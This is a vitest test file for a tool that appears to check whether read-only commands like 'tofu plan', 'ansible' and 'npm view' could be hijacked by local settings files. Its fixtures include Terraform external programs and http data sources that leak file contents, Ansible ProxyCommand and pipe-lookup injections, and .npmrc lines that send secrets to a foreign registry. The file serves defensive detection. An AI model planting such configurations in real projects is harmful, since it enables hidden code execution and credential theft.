import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { settingsFiles } from '../../src/processes/settingsFiles.ts';
import { withFolderSettings } from '../../src/run/folderSettings.ts';
import { allBlocks } from '../../src/run/plan.ts';
import { prepare } from '../../src/run/prepare.ts';
import { parseRunbook } from '../../src/runbook/parse.ts';

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true, force: true });
});

async function asked(command: string, files: Readonly<Record<string, string>>): Promise<boolean> {
  const cwd = await mkdtemp(join(tmpdir(), 'breakwater-places-'));
  folders.push(cwd);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(join(cwd, name)), { recursive: true });
    await writeFile(join(cwd, name), text);
  }
  const runbook = parseRunbook(`# Book\n\n## One\n\n\`\`\`sh\n${command}\n\`\`\`\n`);
  const found = prepare(runbook, allBlocks(runbook)[0]!, new Map(), { cwd, home: cwd });
  if ('refusal' in found) throw new Error(found.refusal);
  expect(found.risk).toBe('reads');
  return (await withFolderSettings(found, settingsFiles)).concerns.length > 0;
}

test.each([
  'data "shell_script" "x" {\n lifecycle_commands {\n read = "touch x"\n }\n}',
  'data "local_command" "x" {\n command = "touch"\n}',
  'data "aws_lambda_invocation" "x" {\n function_name = "f"\n}',
  'data "http" "x" {\n url = "https://a.example"\n method = "POST"\n}',
  'data "http" "x" {\n url = "https://a.example/${file("k")}"\n}',
  'provider "helm" {\n kubernetes = {\n exec = {\n command = "./x"\n }\n }\n}',
  'provider "aws" {\n shared_config_files = ["./cfg"]\n}',
  'provider "kubernetes" {\n config_path = "./kubeconfig"\n}',
  'data external x {\n program = ["./x"]\n}',
  'data /* a */ "external" "x" {\n program = ["./x"]\n}',
  'terraform {\n encryption {\n key_provider "external" "x" {\n command = ["./x"]\n }\n }\n}',
  'terraform {\n encryption {\n method "external" "x" {\n }\n }\n}',
])('Terraform may start something: %j', async (text) => {
  expect(await asked('tofu plan', { 'main.tf': text })).toBe(true);
});

test.each([
  'data "http" "x" {\n url = "https://a.example"\n}',
  'data "aws_lambda_function" "x" {\n function_name = "f"\n}',
  'provider "kubernetes" {\n config_path = "~/.kube/config"\n}',
  'resource "x" "y" {\n method = "external"\n}',
  'variable "external" {}\nvariable "data" {}',
])('Terraform starts nothing: %j', async (text) => {
  expect(await asked('tofu plan', { 'main.tf': text })).toBe(false);
});

test('files of Terraform beyond those that are looked at, JSON, and modules that no list names', async () => {
  const many = Object.fromEntries(Array.from({ length: 110 }, (_, i) => [`f${i}.tf`, '']));
  expect(await asked('terraform plan', many)).toBe(true);
  const json = '{"data": {"aws_ami": {"a": {}}, "external": {"x": {"program": ["./x"]}}}}';
  expect(await asked('terraform plan', { 'x.tf.json': json })).toBe(true);
  const module = { 'main.tf': '', '.terraform/modules/m/main.tf': 'data "external" "x" {}' };
  expect(await asked('terraform plan', module)).toBe(true);
});

test.each([
  ['a ansible_connection=local ansible_python_interpreter=./x', true],
  ['a ansible_ssh_common_args="-o ProxyCommand=./x"', true],
  ["a ansible_ssh_common_args='-F cfg'", true],
  ['a ansible_ssh_executable=./x', true],
  ["a x=\"{{ lookup('pipe','touch y') }}\"", true],
  ['a ansible_connection=local ansible_python_interpreter=/usr/bin/python3', false],
  ['a ansible_python_interpreter=auto_silent', false],
  ['a ansible_host=10.0.0.1 ansible_user=root ansible_ssh_common_args="-o StrictHostKeyChecking=no"', false],
])('hosts of Ansible: %s', async (line, expected) => {
  expect(await asked('ansible -i hosts all -m ping', { hosts: `${line}\n` })).toBe(expected);
  expect(await asked('ansible --inventory=inv/hosts all -m ping', { 'inv/hosts': `${line}\n` })).toBe(expected);
});

test('the site that a command names', async () => {
  expect(await asked('wp --path=site plugin list', { 'site/wp-config.php': '<?php' })).toBe(true);
  expect(await asked('drush status --root=site', { 'site/vendor/a.php': '<?php' })).toBe(true);
  expect(await asked('wp --path=/nowhere plugin list', { 'site/wp-config.php': '<?php' })).toBe(false);
});

test.each([
  ['registry=http://h.example/${MY_SECRET}/', true],
  ['//h.example/:_authToken=${MY_SECRET}', true],
  ['logs-dir=./logs', true],
  ['//registry.npmjs.org/:_authToken=${NPM_TOKEN}', false],
  ['registry=https://registry.npmjs.org/', false],
  ['save-exact=true', false],
])('.npmrc: %s', async (line, expected) => {
  expect(await asked('npm view left-pad', { '.npmrc': `${line}\n` })).toBe(expected);
});
